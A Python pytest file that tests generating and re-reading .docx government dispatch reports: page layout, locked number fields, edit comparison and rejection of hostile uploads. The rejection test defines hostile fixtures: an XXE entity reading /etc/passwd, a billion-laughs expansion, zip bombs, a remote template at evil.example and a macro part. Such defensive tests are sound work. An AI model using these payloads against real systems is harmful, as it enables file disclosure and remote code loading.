"""Documents as .docx: the page and type of the standard, locked numbers, equal bytes; and what comes back edited."""

import io
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import docx
import pytest
from click.testing import CliRunner
from docx.oxml.ns import qn
from lxml import etree

from flows.__main__ import cli
from flows.documents.pdf.typeset import Typesetter
from flows.documents.word.reader import MAX_PART, DocxError, read_docx
from flows.office import Office
from flows.operations import data_folder
from flows.settings import Settings
from flows.wording import WordsRefusedError
from tests.conftest import NOW
from tests.documents import edited_docx as edit
from tests.staff import TYPED, actor, typed

COUNTY = "2025-06/monthly_dispatch-kailu"
BEGINNING = "方案分解到你县的"  # of a paragraph that the office may word


@pytest.fixture(scope="module")
def office(half_year: Path, tmp_path_factory: pytest.TempPathFactory) -> Office:
    folder = tmp_path_factory.mktemp("word") / "data"
    shutil.copytree(half_year, folder)
    desk = Office(Settings(data=folder), lambda: NOW)
    desk.make("monthly_dispatch", "2025-06", county="kailu")
    return desk


@pytest.fixture(scope="module")
def sent(office: Office) -> bytes:
    return office.docx(COUNTY)[1].content


def test_the_page_is_that_of_the_standard_with_its_grid(sent: bytes) -> None:
    document = docx.Document(io.BytesIO(sent))
    section = document.sections[0]
    assert (section.page_width.mm, section.page_height.mm) == (
        pytest.approx(210, abs=0.1),
        pytest.approx(297, abs=0.1),
    )
    assert (section.left_margin.mm, section.top_margin.mm) == (
        pytest.approx(28, abs=0.1),
        pytest.approx(34.58, abs=0.1),
    )
    grid = document.element.body.find(f"{qn('w:sectPr')}/{qn('w:docGrid')}")
    # 229.84 mm of text in 22 lines: 229.84 / 25.4 * 1440 / 22 = 592 twentieths of a point
    assert (grid.get(qn("w:type")), grid.get(qn("w:linePitch"))) == ("linesAndChars", "592")
    names = {style.name: style for style in document.styles}
    assert names["Normal"].element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋_GB2312"
    assert names["Heading 1"].element.rPr.rFonts.get(qn("w:eastAsia")) == "黑体"
    fonts = zipfile.ZipFile(io.BytesIO(sent)).read("word/fontTable.xml").decode()
    assert "FZXiaoBiaoSong-B05S" in fonts and "FandolFang" in fonts
    assert document.settings.odd_and_even_pages_header_footer


def test_every_number_is_a_locked_control_that_carries_its_fact(sent: bytes) -> None:
    body = docx.Document(io.BytesIO(sent)).element.body
    controls = list(body.iter(qn("w:sdt")))
    tags = [one.find(f"{qn('w:sdtPr')}/{qn('w:tag')}").get(qn("w:val")) for one in controls]
    locks = {one.find(f"{qn('w:sdtPr')}/{qn('w:lock')}").get(qn("w:val")) for one in controls}
    assert locks == {"contentLocked", "sdtContentLocked"}
    assert "- 2025-06/kailu/urban_new_jobs/ytd" in tags and "2 percent/period.pace_pct/50.0" in tags
    assert max(map(len, tags)) <= 64
    free = "".join(
        t.text or "" for t in body.iter(qn("w:t")) if not any(a.tag == qn("w:sdt") for a in t.iterancestors())
    )
    # What stands free of a control are fixed words: 附件1, 1个计量单位, the months of a title.
    assert set(re.findall(r"\d+", free)) <= {"1", "2", "3", "4"}


def test_tables_are_tables_whose_head_is_set_again_on_every_page(sent: bytes, office: Office) -> None:
    document = docx.Document(io.BytesIO(sent))
    (table,) = document.tables
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert table.cell(1, 0).text == "城镇新增就业" and len(table.rows) == 9
    figures = (office.settings.reports / COUNTY / "figures.csv").read_text("utf-8-sig").splitlines()
    row = dict(zip(figures[0].split(","), figures[1].split(","), strict=True))
    cells = ["".join(t.text or "" for t in cell._tc.iter(qn("w:t"))) for cell in table.rows[1].cells]
    assert cells[3] == f"{float(row['ytd']):.0f}"


def test_the_same_document_is_the_same_bytes(office: Office, sent: bytes) -> None:
    assert office.docx(COUNTY)[1].content == sent
    assert {info.date_time[0] for info in zipfile.ZipFile(io.BytesIO(sent)).infolist()} == {1980}


def test_no_page_is_laid_out_for_a_docx(office: Office, sent: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Typesetter, "_lay_out", lambda *_: pytest.fail("laid out"))
    assert office.docx(COUNTY)[1].content == sent


@pytest.mark.parametrize("file", ["manifest.json", "2025-06_开鲁县反馈单.pdf"])
def test_a_draft_that_is_not_what_its_data_give_has_no_docx(office: Office, file: str) -> None:
    path = office.settings.reports / COUNTY / file
    before = path.read_bytes()
    try:
        path.write_bytes(before + b"\n")
        with pytest.raises(RuntimeError, match="重新生成"):
            office.docx(COUNTY)
    finally:
        path.write_bytes(before)


def changes(office: Office, content: bytes) -> tuple[dict[str, str], list[str], list[str]]:
    """The new texts by paragraph, every fault, and the notes."""
    returned = office.compare_docx(COUNTY, content)
    found = office.compare_words(COUNTY, returned.texts)
    faults = [*returned.faults, *(fault for one in found for fault in one.faults)]
    return {one.paragraph.id: one.new_text for one in found}, faults, returned.notes


def test_what_came_back_as_it_went_out_changes_nothing(office: Office, sent: bytes) -> None:
    assert changes(office, sent) == ({}, [], [])
    assert changes(office, edit.edited(sent, edit.without_controls)) == ({}, [], [])


@pytest.mark.parametrize("is_rewritten", [False, True], ids=["by Word", "by WPS, controls and styles lost"])
def test_changed_words_are_an_edit_with_the_numbers_where_they_were(
    office: Office, sent: bytes, is_rewritten: bool
) -> None:
    def change(root: Any) -> None:
        edit.replace(root, BEGINNING, "方案附表列有的")
        edit.add_after(root, "方案附表列有的", "总的看，进度不平衡。")
        if is_rewritten:
            edit.without_controls(root)

    texts, faults, _ = changes(office, edit.edited(sent, change))
    assert faults == []
    (name,) = texts
    first, second = texts[name].split("\n")
    assert (
        name == "indicator-count"
        and first.startswith("截至{1:6月}底（时序进度{2:50.0%}），方案附表列有的{3:8项}指标中")
        and second == "总的看，进度不平衡。"
    )


@pytest.mark.parametrize("is_rewritten", [False, True], ids=["in its control", "control lost"])
def test_a_changed_number_is_refused_and_named(office: Office, sent: bytes, is_rewritten: bool) -> None:
    def change(root: Any) -> None:
        edit.replace(edit.paragraph(root, BEGINNING), "8项", "9项")
        if is_rewritten:
            edit.without_controls(root)

    _, faults, _ = changes(office, edit.edited(sent, change))
    assert any("9" in fault for fault in faults)


def test_a_changed_cell_heading_and_lead_are_refused_and_named(office: Office, sent: bytes) -> None:
    def change(root: Any) -> None:
        edit.replace(next(root.iter(qn("w:tbl"))), "39.2", "49.2")
        edit.replace(root, "一、指标完成情况", "一、指标全部完成")

    _, faults, _ = changes(office, edit.edited(sent, change))
    assert faults == [
        "表格里的“39.2”改成了“49.2”（城镇新增就业一行）：数不能改，表由数据生成",
        "“一、指标完成情况”改成了“一、指标全部完成”：这一处由程序生成，不能在这里改",
    ]


def test_tracked_changes_count_as_made_and_comments_are_read(office: Office, sent: bytes) -> None:
    comments = (
        f'<w:comments xmlns:w="{qn("w:p")[1:-2]}"><w:comment w:id="7" w:author="张科长"><w:p><w:r><w:t>语气再缓一些</w:t></w:r></w:p>'
        "</w:comment></w:comments>"
    )

    def change(root: Any) -> None:
        edit.track(root, BEGINNING, "请各地对照检查。", "各项情况见下表。")
        edit.paragraph(root, BEGINNING).append(etree.Element(qn("w:commentRangeStart"), {qn("w:id"): "7"}))

    texts, faults, notes = changes(
        office, edit.edited(sent, change, {"word/comments.xml": comments.encode()})
    )
    assert (
        faults == []
        and texts["indicator-count"].endswith("。请各地对照检查。")
        and "见下表" not in texts["indicator-count"]
    )
    assert notes == [
        "修订：李局长 删去“各项情况见下表。”",
        "修订：李局长 插入“请各地对照检查。”",
        "张科长批注：语气再缓一些",
    ]


@pytest.mark.parametrize("is_rewritten", [False, True], ids=["bookmark in the deletion", "bookmarks lost"])
def test_a_slot_that_is_written_over_is_filled(office: Office, sent: bytes, is_rewritten: bool) -> None:
    def change(root: Any) -> None:
        found = edit.paragraph(root, "请写在这里")
        edit.track(root, "请写在这里", "特此函告。", found.xpath("string()"))
        found.find(qn("w:del")).insert(0, found.find(qn("w:bookmarkStart")))  # as LibreOffice saves it
        if is_rewritten:
            edit.without_controls(root)

    texts, faults, _ = changes(office, edit.edited(sent, change))
    assert faults == [] and texts == {"closing": "特此函告。"}


def test_a_number_may_be_moved_or_left_out_and_a_paragraph_taken_out(office: Office, sent: bytes) -> None:
    def change(root: Any) -> None:
        found = edit.paragraph(root, BEGINNING)
        for part in list(found)[
            9:
        ]:  # its style, both ends of its bookmark, its first words and three numbers stay
            found.remove(part)
        found.append(edit.run("指标见下表。"))

    texts, faults, _ = changes(office, edit.edited(sent, change))
    assert faults == [] and texts == {
        "indicator-count": "截至{1:6月}底（时序进度{2:50.0%}），方案分解到你县的{3:8项}指标见下表。"
    }


def zipped(**parts: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, part in parts.items():
            whole.writestr(name.replace("__", "/").replace("_DOT_", "."), part)
    return written.getvalue()


BODY = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + BODY.replace(
    b"<w:body/>", b"<w:body>&e;</w:body>"
)
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' + BODY.replace(
    b"<w:body/>", b"<w:body>&b;</w:body>"
)
OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"not a zip", "不是 .docx"),
        (zipped(a=b"x"), "不是 .docx"),
        (zipped(word__document_DOT_xml=b"<w:document"), "读不出来"),
        (zipped(word__document_DOT_xml=ENTITY), "实体声明|读不出来"),
        (zipped(word__document_DOT_xml=LAUGHS), "实体声明|读不出来"),
        (zipped(word__document_DOT_xml=b" " * (MAX_PART + 1)), "解开后过大"),
        (
            zipped(word__document_DOT_xml=BODY, word__media__image1_DOT_png=b"\0" * (5 * MAX_PART)),
            "解开后过大",
        ),
        (
            zipped(word__document_DOT_xml=BODY, word___rels__settings_DOT_xml_DOT_rels=OUTSIDE),
            "引用了外部的内容",
        ),
        (zipped(word__document_DOT_xml=BODY, word__vbaProject_DOT_bin=b"x"), "带有宏"),
    ],
    ids=[
        "no zip",
        "another zip",
        "broken",
        "entity",
        "entities",
        "bomb",
        "bomb beside",
        "template outside",
        "macros",
    ],
)
def test_a_hostile_file_is_refused_in_words(content: bytes, why: str) -> None:
    with pytest.raises(DocxError, match=why):
        read_docx(content)


def test_the_command_shows_the_difference_before_it_counts(
    office: Office, sent: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DIAODU_DATA", str(office.settings.data))
    data_folder.init(office.settings, NOW)
    name = actor(office.settings).account.name
    file, wrong = tmp_path / "改好的.docx", tmp_path / "改了数的.docx"
    file.write_bytes(edit.edited(sent, lambda root: edit.replace(root, BEGINNING, "方案附表列有的")))
    wrong.write_bytes(
        edit.edited(sent, lambda root: edit.replace(edit.paragraph(root, BEGINNING), "8项", "9项"))
    )
    shown = CliRunner().invoke(cli, ["words", COUNTY, "--from", str(file)])
    assert "方案附表列有的{3:8项}指标中" in shown.output and "还没有记录" in shown.output
    assert [one.edit for one in office.paragraphs(COUNTY) if one.edit] == []
    refused = CliRunner().invoke(
        cli, ["words", COUNTY, "--from", str(wrong), "--accept", *typed(name)], input=f"{TYPED}\n"
    )
    assert isinstance(refused.exception, WordsRefusedError) and "“9项”改过了，应为“8项”" in str(
        refused.exception
    )
    taken = CliRunner().invoke(
        cli, ["words", COUNTY, "--from", str(file), "--accept", *typed(name)], input=f"{TYPED}\n"
    )
    assert "改了 1 段" in taken.output, taken.output
    assert changes(office, file.read_bytes()) == ({}, [], [])  # it says now what came back
    assert "方案附表列有的" in "".join(one.text for one in read_docx(office.docx(COUNTY)[1].content))
